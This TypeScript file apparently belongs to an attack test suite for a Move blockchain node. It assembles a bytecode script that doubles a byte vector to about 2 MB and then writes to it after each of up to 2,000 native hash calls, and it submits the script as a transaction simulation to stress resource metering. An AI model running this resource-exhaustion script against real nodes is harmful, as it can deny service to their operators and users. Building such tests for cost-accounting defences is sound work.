import { assembleScript, writeCompiledScript } from "@atoll/move";
import type { Attack } from "../attack.ts";
import { simulationAttack } from "./simulationAttack.ts";

/** BCS of a vector of 30,000 bytes, with its length. */
const CONSTANT = `b0ea01${"07".repeat(30_000)}`;
const DOUBLINGS = 6;
const TIMES = 2_000n;

/** Attack by code that writes to a vector of 2 MB after each call of a native function. */
export const byteVectors: Attack = simulationAttack("byte vectors after native calls", async (attacker) => {
  const double = "CopyLoc v StLoc copy MutBorrowLoc v MoveLoc copy CallGeneric 0x1::vector::append<u8>";
  const code = writeCompiledScript(
    assembleScript(`script version 8
      use fun 0x1::vector::append<T0>(&mut vector<T0>, vector<T0>);
      use fun 0x1::hash::sha3_256(vector<u8>): vector<u8>;
      fun main(times: u64) { local v: vector<u8> local copy: vector<u8>
        LdConst vector<u8> x"${CONSTANT}" StLoc v
        ${`${double} `.repeat(DOUBLINGS)}
      B1: CopyLoc times LdU64 0 Eq BrTrue B2
        VecPack u8 0 Call 0x1::hash::sha3_256 Pop MutBorrowLoc v LdU64 0 LdU64 1 VecSwap u8
        CopyLoc times LdU64 1 Sub StLoc times Branch B1
      B2: Ret }`),
  );
  const body = attacker.simulation({ kind: "script", script: { code, typeArguments: [], args: [{ kind: "u64", value: TIMES }] } });
  return () => body;
});
